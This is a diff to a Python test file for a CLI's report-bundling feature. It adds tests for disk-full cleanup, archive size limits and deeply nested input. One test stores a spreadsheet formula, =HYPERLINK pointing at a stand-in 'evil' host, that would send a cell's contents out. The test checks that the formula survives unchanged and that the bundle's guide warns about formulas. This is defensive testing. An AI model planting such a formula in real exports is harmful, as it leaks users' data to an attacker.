@@ -1,6 +1,8 @@
 """What `icl report --bundle` packs: whole, the same bytes each time, and readable without `icl`."""
 
+import csv
 import hashlib
+import io
 import json
 import re
 import shutil
@@ -14,12 +16,14 @@ from sqlite3 import connect
 
 import pytest
 from bundles import bundle, contents, draw_little, fill, rows
-from recorded_runs import begin, recorded_config
+from recorded_runs import begin, finish, recorded_config
 from safetensors.numpy import load
 
 from icl_cli.errors import IclError, NothingMatchedError, StoreError, UsageError
+from icl_cli.report.bundle import limits
 from icl_cli.report.bundle.importing import import_bundle
 from icl_cli.report.bundle.writing import write_bundle
+from icl_cli.report.export import cannot_write
 from icl_cli.report.write import write_report
 from icl_cli.store import Database, RunStatus, back_up, copy_runs, get_snapshot, list_runs
 
@@ -153,6 +157,17 @@ def test_every_line_of_the_guide_fits_80_columns_and_names_what_is_there(drawn):
     assert "report/index.html" in text
 
 
+def test_formulas_stay_as_written_and_the_guide_warns_of_them(tmp_path):
+    formula = '=HYPERLINK("http://evil/?x="&A1,"open")'
+    with Database.open(tmp_path / "formula.db", mode="create") as database:
+        finish(database, formula, recorded_config())
+        bundle(database, tmp_path / "formula.zip")
+    files = contents(tmp_path / "formula.zip")
+    (row,) = csv.DictReader(io.StringIO(files["tables/runs.csv"].decode(), newline=""))
+    assert row["name"] == formula
+    assert "takes those that begin with =, +, - or @ for formulas" in files["README.txt"].decode()
+
+
 def test_every_run_has_its_file_and_its_weights(source, drawn):
     for run in list_runs(source):
         document = json.loads((drawn / "runs" / f"{run.short_id}.json").read_text(encoding="utf-8"))
@@ -202,19 +217,90 @@ def test_nothing_is_replaced_unless_asked_for(source, tmp_path):
     assert bundle(source, file, replace=True).size == file.stat().st_size > 4
 
 
-@pytest.mark.parametrize("way", ["icl_cli.report.bundle.writing.export_tables", "icl_cli.report.bundle.archive._flush"])
-def test_what_fails_leaves_nothing_behind(source, tmp_path, monkeypatch, way):
+FULL = "No space left on device"
+ELSEWHERE = r"\. .*: set TMPDIR to one with room\.$"
+
+
+def full_table(_, folder, *__):
+    """As `export_tables`, on a disk without room."""
+    error = OSError(28, FULL, str(folder / "runs.csv"))
+    raise cannot_write(folder, error) from error
+
+
+def full_disk(*_, **__):
+    raise OSError(28, FULL)
+
+
+def full_store(_, target):
+    raise StoreError(f"No space left for {target} (database or disk is full). Free space.")
+
+
+@pytest.mark.parametrize(
+    ("way", "fails", "said"),
+    [
+        ("archive._flush", full_disk, rf"^Cannot write {{file}}: {FULL}\. Choose a folder with room\.$"),
+        (
+            "writing.export_tables",
+            full_disk,
+            rf"^Cannot write {{temporary}}: {FULL}{ELSEWHERE}",
+        ),
+        (
+            "writing.export_tables",
+            full_table,
+            rf"^Cannot write {{temporary}}/icl-bundle-.*runs\.csv: {FULL}{ELSEWHERE}",
+        ),
+        (
+            "writing.back_up",
+            full_store,
+            r"^No space left for {temporary}/icl-bundle-.* Or set TMPDIR to",
+        ),
+        (
+            "writing.tempfile.TemporaryDirectory",
+            full_disk,
+            rf"^Cannot write {{temporary}}: {FULL}{ELSEWHERE}",
+        ),
+    ],
+)
+def test_what_fails_leaves_nothing_behind_and_names_the_place(source, tmp_path, monkeypatch, way, fails, said):
+    temporary = tmp_path.with_name(f"{tmp_path.name}-temporary")
+    temporary.mkdir()
+    monkeypatch.setattr("tempfile.tempdir", str(temporary))
     (tmp_path / "there.zip").write_text("mine")
 
-    def full(*_):
-        raise OSError(28, "No space left on device")
-
-    monkeypatch.setattr(way, full)
+    monkeypatch.setattr(f"icl_cli.report.bundle.{way}", fails)
     for file, replace in ((tmp_path / "new.zip", False), (tmp_path / "there.zip", True)):
-        with pytest.raises(IclError, match=r"^Cannot write .*No space left.*folder with room\.$"):
+        with pytest.raises(IclError, match=said.format(file=re.escape(str(file)), temporary=re.escape(str(temporary)))):
             bundle(source, file, replace=replace)
     assert [path.name for path in tmp_path.iterdir()] == ["there.zip"]
     assert (tmp_path / "there.zip").read_text() == "mine"
+    assert list(temporary.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    ("names", "said"),
+    [
+        ({"MOST_FILES": 10}, "allowed are 10 files with"),
+        ({"MOST_BYTES": 1000}, "files with 1000 bytes"),
+        ({"MOST_SWELLING": 1, "HARMLESS_BYTES": 1000}, "bytes would come out of it"),
+    ],
+)
+def test_no_archive_is_made_that_the_import_refuses(source, tmp_path, monkeypatch, names, said):
+    for name, value in names.items():
+        monkeypatch.setattr(limits, name, value)
+    with pytest.raises(IclError, match=rf"`icl import` would refuse it: .*{said}.*Name fewer runs"):
+        bundle(source, tmp_path / "large.zip")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_what_the_import_would_stumble_over_is_not_handed_on(source, tmp_path, alter_sqlite):
+    back_up(source, tmp_path / "deep.db")
+    deep = "[" * 100_000
+    alter_sqlite(tmp_path / "deep.db", f"UPDATE runs SET provenance = '{deep}' WHERE name = 'interrupted'")
+    with (
+        Database.open(tmp_path / "deep.db", mode="read") as altered,
+        pytest.raises(StoreError, match="cannot be handed on"),
+    ):
+        write_bundle(altered, list_runs(source), draw_little, tmp_path / "deep.zip")
 
 
 @pytest.mark.parametrize(("place", "kind"), [("", UsageError), ("missing/new.zip", IclError)])
